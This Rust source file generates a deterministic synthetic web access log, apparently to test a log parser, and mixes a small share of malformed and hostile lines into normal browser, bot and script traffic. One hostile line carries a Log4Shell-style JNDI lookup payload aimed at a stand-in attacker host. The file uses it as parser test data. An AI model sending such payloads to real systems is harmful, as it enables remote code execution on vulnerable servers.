//! A realistic access log, the same on every run: what browsers, bots and scripts ask for, a few percent of hostile
//! lines.

use std::fmt::Write;

pub(crate) const AGENTS: [&str; 10] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/8.14.1",
    "ELB-HealthChecker/2.0",
    "-",
];
pub(crate) const REFERERS: [&str; 6] = [
    "-",
    "-",
    "https://www.example.com/",
    "https://www.example.com/products/soil-sensor?ref=mail",
    "https://www.google.com/",
    "https://www.example.com/blog/2026/11/what-a-log-line-tells",
];
pub(crate) const PATHS: [&str; 10] = [
    "/",
    "/assets/app.4f1c9e.css",
    "/assets/vendor/chunk-7b31a0.js",
    "/products/soil-sensor/gallery/picture-",
    "/api/v1/sensors/1691/readings?from=-1h&step=60",
    "/search?q=soil+moisture+sensor&sort=price&page=2",
    "/login",
    "/blog/2026/11/what-a-log-line-tells",
    "/favicon.ico",
    "/api/v2/telemetry/batches?tenant=north&since=1795206577",
];
const HOSTILE: [&str; 6] = [
    r#"203.0.113.9 - - [TIME] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 157 "-" "-""#,
    r#"203.0.113.9 - - [TIME] "" 400 0 "-" "-""#,
    r#"203.0.113.9 - mal\x22lory [TIME] "GET /p?q=\x22raw\x22 HTTP/1.1" 404 153 "back\x5Cslash" "caf\xC3\xA9/1.0 \x22x\x22""#,
    r#"2001:db8::53 - a] [b [TIME] "GET /a b c HTTP/1.1" 400 157 "" "${jndi:ldap://evil.example/a}""#,
    r#"203.0.113.9 - - [TIME] "stats" 400 157 "-" "-""#,
    r#"not a line of this log"#,
];

/// A log of so many lines.
pub(crate) fn log(lines: usize) -> Vec<u8> {
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    let mut out = String::with_capacity(lines * 240);
    let mut second = 0;
    for _ in 0..lines {
        // About 50 requests a second.
        second += usize::from(random.below(50) == 0);
        let time =
            format!("20/Nov/2026:{:02}:{:02}:{:02} +0100", second / 3600 % 24, second / 60 % 60, second % 60);
        if random.below(100) < 3 {
            let line = HOSTILE[random.below(HOSTILE.len())].replace("TIME", &time);
            let _ = writeln!(out, "{line}");
            continue;
        }
        match random.below(10) {
            0 => write!(out, "2001:db8:{:x}::{:x}", random.below(65_536), random.below(65_536)),
            _ => write!(
                out,
                "{}.{}.{}.{}",
                1 + random.below(223),
                random.below(256),
                random.below(256),
                random.below(256)
            ),
        }
        .unwrap();
        let user = if random.below(20) == 0 { "alice" } else { "-" };
        let method = ["GET", "GET", "GET", "GET", "GET", "GET", "POST", "HEAD"][random.below(8)];
        let path = PATHS[random.below(PATHS.len())];
        let protocol = ["HTTP/1.1", "HTTP/2.0", "HTTP/2.0"][random.below(3)];
        let status = [200, 200, 200, 200, 304, 302, 404, 502][random.below(8)];
        let digits = 1 + random.below(6) as u32;
        let bytes = random.below(10usize.pow(digits));
        let (referer, agent) = (REFERERS[random.below(REFERERS.len())], AGENTS[random.below(AGENTS.len())]);
        let _ = write!(out, " - {user} [{time}] \"{method} {path}");
        if path.ends_with('-') {
            let _ = write!(out, "{}.jpg", random.below(10_000));
        }
        let _ = writeln!(out, " {protocol}\" {status} {bytes} \"{referer}\" \"{agent}\"");
    }
    out.into_bytes()
}

/// SplitMix64.
pub(crate) struct Random(pub(crate) u64);

impl Random {
    pub(crate) fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((z ^ (z >> 31)) % limit as u64) as usize
    }
}
